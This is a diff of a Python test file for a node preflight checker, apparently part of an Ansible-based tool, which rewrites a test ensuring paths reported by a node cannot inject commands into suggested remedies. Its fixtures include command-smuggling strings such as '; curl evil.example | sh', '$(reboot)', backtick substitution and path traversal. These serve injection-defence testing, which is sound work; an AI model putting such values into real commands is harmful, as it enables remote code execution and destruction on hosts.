@@ -138,7 +138,8 @@ def a_node(**more: object) -> dict:
     return {
         "address": "127.0.0.1", "port": 22, "user": "pi", "known_as": "127.0.0.1",
         "inventory": "/tmp/it's here", "known_hosts": "/tmp/it's here/known_hosts", "variables": [],
-        "unreachable": False, "said": "", "answer": "", "root": False, **more,
+        "unreachable": False, "said": "", "answer": "", "root": False,
+        "researchers": [], "retired": [], **more,
     }  # fmt: skip
 
 
@@ -147,7 +148,7 @@ def judged(tmp_path: Path, **found: dict) -> dict:
     sizes = ("memory", "memory_and_swap", "disk", "disk_provisioned", "disk_speed", "clock")
     wanted = {**dict.fromkeys(sizes, 9), "distributions": {"debian": "12"}, "python": "3"}
     question = {
-        "roles": str(ROOT / "roles"), "nodes": found,
+        "roles": str(ROOT / "roles"), "nodes": found, "inventory": [], "identity_only": False,
         "wanted": {**wanted, "internet": True, "locks": str(tmp_path)},
     }  # fmt: skip
     done = subprocess.run(
@@ -195,16 +196,17 @@ def test_preflight_tells_what_a_node_says_as_text(tmp_path):
 
 def test_a_command_of_preflight_has_no_word_that_a_node_made_up(tmp_path):
     good = "/home/pi/.local/lib/python3.11/site-packages/torchvision"
-    bad = ["/", "/etc", f"{good}/../../..", f"{good}; curl evil.example | sh", "$(reboot)/syft",
-           "/home/../etc/.local/lib/python3.1/site-packages/syft", "-rf", f"`{good}`"]  # fmt: skip
-    home = "/home/pi; curl evil.example | sh"
-    answer = "\n".join(["@ root", "yes", "@ home", home, "@ stray", good, *bad, "@ end", ""])
-    remedies = {
-        one["finding"]: one["remedy"]
-        for one in judged(tmp_path, pi1=a_node(answer=answer))["findings"]
-    }
-    assert f"`sudo rm -r {good}`" in remedies["stray-python"]
-    assert "evil" not in "".join(remedies.values())
+    bad = ["/", "/etc", f"{good}/../../..", "/home/../etc/.local/lib/python3.1/site-packages/syft"]
+    worse = [f"{good}; curl evil.example | sh", "$(reboot)/syft", "-rf", f"`{good}`"]
+
+    def remedies(*stray: str) -> dict[str, str]:
+        answer = "\n".join(["@ root", "yes", "@ stray", good, *stray, "@ end", ""])
+        found = judged(tmp_path, pi1=a_node(answer=answer))["findings"]
+        return {one["finding"]: one["remedy"] for one in found}
+
+    assert f"`sudo rm -r {good}`" in remedies(*bad)["stray-python"]
+    for word in worse:
+        assert list(remedies(word)) == ["malformed"] and "evil" not in str(remedies(word))
     unreachable = judged(tmp_path, pi1=a_node(unreachable=True))["findings"][0]["remedy"]
     words = shlex.split(unreachable.split("`")[1])
     assert words == ["ansible", "-i", "/tmp/it's here", "-m", "ping", "pi1", "-vvv"]
@@ -253,8 +255,6 @@ def test_the_json_of_the_glance_keeps_the_whole_text():
     said = json.dumps(rows)
     assert unsafe(said.replace("x" * (1 << 20), "")) == []
     assert [row["problems"][0] for row in json.loads(said)] == list(TEXTS.values())
-    told = glance_of(TEXTS["the clipboard"])
-    assert any(TEXTS["the clipboard"] in problem for problem in told["problems"])
 
 
 def test_a_run_tells_what_a_node_says_as_text(capsys):
